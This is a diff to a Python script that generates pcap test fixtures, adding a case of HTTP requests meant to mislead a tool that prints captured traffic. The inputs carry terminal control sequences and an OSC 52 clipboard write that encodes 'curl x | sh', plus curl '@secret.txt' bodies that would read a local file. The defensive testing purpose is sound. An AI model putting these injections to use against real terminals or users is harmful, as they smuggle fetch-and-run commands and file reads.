@@ -469,6 +469,50 @@ def large_many_exchanges(n=2500, size=1000):
     return out, exp
 
 
+# ---------------------------------------------------------------------------------------------
+# valid HTTP built to mislead what prints it
+# ---------------------------------------------------------------------------------------------
+
+# C1 controls as UTF-8 (U+009B CSI, U+009D OSC, U+009C ST) and as raw bytes, Latin-1, U+FFFE
+CSI, OSC, ST = b'\xc2\x9b', b'\xc2\x9d', b'\xc2\x9c'
+HOSTILE_TARGET = b'/api/' + CSI + b'2J/t\xe9t\xe9/\x9b31m/a|b\\|c/\xef\xbf\xbe?x=1'
+HOSTILE_NOTE = OSC + b'52;c;Y3VybCB4IHwgc2g=' + ST + b' \x9b31m\xe9'
+GLOB_TARGET = b'/api/upload/[1-3]/{a,b}'
+# a body curl would read as a file name after --data-binary '@...'; one with CR and escapes
+AT_BODY = b'@secret.txt'
+CTL_BODY = b'@secret.txt\r\x1b[2K' + CSI + b'31mhidden\n\x7f'
+# 3-byte characters, so a cut 40 bytes before the difference falls inside one
+EURO_A = '\u20ac'.encode() * 30 + b'X' + '\u20ac'.encode() * 30
+EURO_B = '\u20ac'.encode() * 30 + b'Y' + '\u20ac'.encode() * 30
+
+
+def raw_request(method, target, headers=(), body=b'', ctype=b'text/plain'):
+    h = [(b'Host', b'api.example.test')] + list(headers)
+    if body or method == b'POST':
+        h += [(b'Content-Type', ctype), (b'Content-Length', str(len(body)).encode())]
+    wire = method + b' ' + target + b' HTTP/1.1\r\n' + b''.join(k + b': ' + v + b'\r\n'
+                                                              for k, v in h) + b'\r\n' + body
+    return g.Msg(wire, body, method=method.decode(), target=target.decode('latin-1'))
+
+
+def case_hostile():
+    """Requests whose target, headers and bodies carry terminal controls (see it_sinks.c)."""
+    out, exp = g.PcapOut(g.LINKTYPE_ETHERNET), g.Expected()
+    c = g.Conn(out, g.eth_link(), CLI4, SRV4, 42100, 8080, 500, 900)
+    c.handshake()
+    ok = g.response(200, b'{"name":"ok","n":1}')
+    c.send(0, raw_request(b'GET', HOSTILE_TARGET, [(b'X-Note', HOSTILE_NOTE)]).wire)
+    c.send(1, ok.wire)
+    c.send(0, raw_request(b'GET', b'/text').wire)
+    c.send(1, g.response(200, EURO_A, ctype='text/plain; charset=utf-8').wire)
+    c.send(0, raw_request(b'POST', GLOB_TARGET, body=AT_BODY).wire)
+    c.send(1, ok.wire)
+    c.send(0, raw_request(b'POST', b'/api/notes', body=CTL_BODY).wire)
+    c.send(1, ok.wire)
+    c.close(0)
+    return out, None
+
+
 def main():
     ap = argparse.ArgumentParser(description=__doc__.split('\n')[1])
     here = os.path.dirname(os.path.abspath(__file__))
@@ -500,6 +544,7 @@ def main():
     write_case(d, 'orphan_response.pcap', *case_orphan_response())
     write_case(d, 'retransmissions_only.pcap', *case_retransmissions_only())
     write(d, 'bomb.http', bomb_response())
+    write_case(d, 'hostile.pcap', *case_hostile())
     return 0
 
 
